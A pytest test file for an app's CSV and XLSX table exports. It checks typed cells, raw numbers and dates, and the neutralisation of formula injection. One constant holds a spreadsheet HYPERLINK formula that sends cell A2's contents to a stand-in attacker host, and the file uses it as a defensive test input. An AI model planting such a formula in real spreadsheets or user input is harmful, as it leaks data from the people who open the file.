"""Table exports: typed cells, raw CSV values, and no formula from anybody's text."""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from racine.core import exports
from racine.partners import services as partners
from tests.partners.conftest import agreement_data

EVIL = '=HYPERLINK("https://evil.example/?x="&A2,"Cliquez ici")'


def _sheet(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.fixture
def evil_agreement(make_user, reference):
    from tests.factories import make_organisation

    embassy = make_organisation("Ambassade de France au Mexique")
    attache = make_user("bruno", roles=["embassy_officer"], organisation=embassy)
    partners.create_agreement(
        attache, agreement_data(embassy, title=EVIL), created_on=dt.date(2025, 9, 1)
    )
    return attache


def test_a_formula_typed_as_an_agreement_title_is_neutralised_in_csv(evil_agreement, login):
    rows = _rows(login(evil_agreement).get("/partenaires/accords/?format=csv").content)

    assert rows[1][0] == "'" + EVIL


def test_a_formula_typed_as_an_agreement_title_is_text_in_xlsx(evil_agreement, login):
    content = login(evil_agreement).get("/partenaires/accords/?format=xlsx").content
    sheet = _sheet(content)

    assert sheet["A2"].value == EVIL
    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].quotePrefix
    with zipfile.ZipFile(io.BytesIO(content)) as workbook:
        xml = workbook.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


CELL_TEXT = st.text(min_size=1, max_size=40).map(lambda s: s.replace("\x00", ""))


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(exports.FORMULA_TRIGGERS), CELL_TEXT)
def test_no_text_starting_with_a_formula_trigger_reaches_a_spreadsheet_as_a_formula(trigger, rest):
    text = trigger + rest
    [row] = _rows(exports.csv_table(["h"], [[text]]).encode())[1:] or [[""]]
    assert not row[0].startswith(exports.FORMULA_TRIGGERS)

    cell = _sheet(exports.xlsx_table("Table", ["h"], [[text]]))["A2"]
    assert cell.data_type == "s"


@settings(max_examples=100, deadline=None)
@given(st.decimals(min_value=-(10**12), max_value=10**12, places=2, allow_nan=False))
def test_numbers_stay_numbers_negative_ones_too(amount):
    csv_cell = _rows(exports.csv_table(["Amount (EUR)"], [[amount]]).encode())[1][0]
    assert Decimal(csv_cell) == amount  # raw, dot decimal, never prefixed

    cell = _sheet(exports.xlsx_table("Table", ["Amount (EUR)"], [[amount]]))["A2"]
    assert cell.data_type == "n"
    assert Decimal(str(cell.value)) == amount


def test_xlsx_cells_are_typed_with_formats_in_a_named_sheet():
    content = exports.xlsx_table(
        "Moyens d'intervention",
        ["Embassy", "Year", "Committed (EUR)", "Signed on"],
        [["Ambassade de France au Mexique", 2026, Decimal("224000.00"), dt.date(2026, 3, 1)]],
    )
    sheet = _sheet(content)

    assert sheet.title == "Moyens d'intervention"
    assert sheet["B2"].value == 2026
    assert sheet["C2"].value == 224000 and sheet["C2"].number_format == "#,##0.00"
    assert sheet["D2"].is_date and sheet["D2"].value.date() == dt.date(2026, 3, 1)
    assert sheet["D2"].number_format == "yyyy-mm-dd"


def test_csv_holds_raw_values_with_a_dot_and_iso_dates():
    rows = _rows(
        exports.csv_table(
            ["Committed (EUR)", "Signed on"], [[Decimal("224000.50"), dt.date(2026, 3, 1)]]
        ).encode()
    )

    assert rows[1] == ["224000.50", "2026-03-01"]


def test_the_budget_export_holds_numbers_not_formatted_text(make_user, reference, login):
    from racine.resources import services as resources
    from tests.factories import make_organisation

    ministry = make_organisation("MEAE", kind="ministry", country="FR")
    coordinator = make_user("camille", roles=["plan_coordinator"], organisation=ministry)
    embassy = make_organisation("Ambassade de France au Mexique")
    resources.save_budget_line(
        coordinator,
        resources.BudgetData(embassy.pk, 2026, "equipment", Decimal("224000"), Decimal("1500.5")),
    )
    client = login(coordinator)

    rows = _rows(client.get("/ressources/moyens/?format=csv").content)
    assert rows[1][3:] == ["224000.00", "1500.50"]
    sheet = _sheet(client.get("/ressources/moyens/?format=xlsx").content)
    assert sheet["D2"].value == 224000 and sheet["E2"].value == 1500.5
    assert sheet.title == "Moyens d’intervention" or sheet.title.startswith("Moyens")
